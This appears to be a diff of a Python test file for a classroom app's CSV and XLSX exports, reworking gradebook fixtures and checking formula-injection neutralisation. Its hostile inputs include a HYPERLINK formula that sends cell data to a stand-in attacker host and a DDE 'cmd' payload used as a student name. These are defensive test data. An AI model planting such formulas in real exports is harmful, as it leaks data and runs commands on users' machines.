@@ -15,13 +15,11 @@ from hypothesis import strategies as st
 
 from classroom.exports import (
     FORMULA_TRIGGERS,
-    gradebook,
     neutralize_cell,
     neutralize_frame,
     to_csv_bytes,
     to_xlsx_bytes,
 )
-from classroom.item_stats import ItemDataError
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
@@ -195,72 +193,42 @@ def test_xlsx_rejects_sheet_names_differing_only_in_case():
         to_xlsx_bytes({"Items": pd.DataFrame(), "items": pd.DataFrame()})
 
 
-RESPONSES = pd.DataFrame(
-    [
-        ("Zoë", "step-1", 1, 1),
-        ("Zoë", "step-2", 2.5, 4),
-        ("Bo", "step-1", 0, 1),
-        ("Bo", "step-2", 4, 4),
-        ("Cy", "step-1", 1, 1),  # no row for step-2: counts 0 of 4
-    ],
-    columns=["student", "item", "points", "max_points"],
+# A gradebook as classroom.dashboard.exports_for writes it (its numbers are tested there).
+GRADEBOOK = pd.DataFrame(
+    {
+        "student": ["Bo", "Cy", "Zoë"],
+        "points": [16, 1, 5],
+        "max_points": [17, 5, 8],
+        "percent": [50.0, 20.0, 62.5],
+        "raw_percent": [94.1, 20.0, 62.5],
+        "capped": [True, False, False],
+        "must_avoid": [1, 0, 0],
+    }
 )
 
 
-def test_gradebook_from_item_responses():
-    book = gradebook(RESPONSES)
-    # Max is 1 + 4 = 5 for everyone: Bo 4/5 = 80 %, Cy 1/5 = 20 %, Zoë 3.5/5 = 70 %.
-    assert book.to_dict("records") == [
-        {"student": "Bo", "points": 4.0, "max_points": 5.0, "percent": 80.0},
-        {"student": "Cy", "points": 1.0, "max_points": 5.0, "percent": 20.0},
-        {"student": "Zoë", "points": 3.5, "max_points": 5.0, "percent": 70.0},
-    ]
-
-
-def test_gradebook_rounds_percent_to_one_decimal():
-    # 1/3 → 33.3 %, 2/3 → 66.7 %.
-    book = gradebook(pd.DataFrame({"student": ["a", "b"], "points": [1, 2], "max_points": [3, 3]}))
-    assert book["percent"].tolist() == [33.3, 66.7]
-
-
-def test_gradebook_from_per_student_totals():
-    totals = pd.DataFrame(
-        {"student": ["a", "a", "b"], "points": [3, 4.5, 0], "max_points": [5, 10, 10]}
-    )
-    assert gradebook(totals).to_dict("records") == [
-        {"student": "a", "points": 7.5, "max_points": 15.0, "percent": 50.0},
-        {"student": "b", "points": 0.0, "max_points": 10.0, "percent": 0.0},
-    ]
-
-
-def test_gradebook_empty_and_bad_input():
-    assert list(gradebook(pd.DataFrame()).columns) == ["student", "points", "max_points", "percent"]
-    with pytest.raises(ItemDataError):
-        gradebook(pd.DataFrame({"student": ["a"], "points": [1]}))
-
-
 def test_gradebook_round_trips_through_csv_and_xlsx():
-    book = gradebook(RESPONSES)
+    book = GRADEBOOK
     back = pd.read_csv(io.BytesIO(to_csv_bytes(book)), encoding="utf-8-sig")
     pd.testing.assert_frame_equal(back, book, check_dtype=False)
-    assert back["points"].dtype == np.float64
-    assert back["percent"].dtype == np.float64
+    assert back["percent"].dtype == np.float64 and back["capped"].dtype == bool
+    assert pd.api.types.is_integer_dtype(back["points"])
 
     data = to_xlsx_bytes({"Gradebook": book})
     from_xlsx = pd.read_excel(io.BytesIO(data), engine="openpyxl")
     pd.testing.assert_frame_equal(from_xlsx, book, check_dtype=False)
     # XLSX has one number type, so 80.0 may come back as the integer 80; it is still a number.
-    for column in ("points", "max_points", "percent"):
+    for column in ("points", "max_points", "percent", "raw_percent", "must_avoid"):
         assert pd.api.types.is_numeric_dtype(from_xlsx[column])
     for row in read_xlsx(data)["Gradebook"].iter_rows(min_row=2):
-        assert [cell.data_type for cell in row] == ["s", "n", "n", "n"]
+        assert [cell.data_type for cell in row] == ["s", "n", "n", "n", "n", "b", "n"]
 
 
 def test_gradebook_export_neutralizes_hostile_student_names():
-    responses = RESPONSES.assign(student=RESPONSES["student"].replace({"Bo": "=cmd|' /C calc'!A0"}))
-    back = pd.read_csv(io.BytesIO(to_csv_bytes(gradebook(responses))), encoding="utf-8-sig")
+    hostile = GRADEBOOK.assign(student=GRADEBOOK["student"].replace({"Bo": "=cmd|' /C calc'!A0"}))
+    back = pd.read_csv(io.BytesIO(to_csv_bytes(hostile)), encoding="utf-8-sig")
     assert back.loc[0, "student"] == "'=cmd|' /C calc'!A0"
-    assert back.loc[0, "percent"] == 80.0
+    assert back.loc[0, "percent"] == 50.0
 
 
 # --- No export of any string holds a formula cell or a CSV cell a spreadsheet evaluates ----
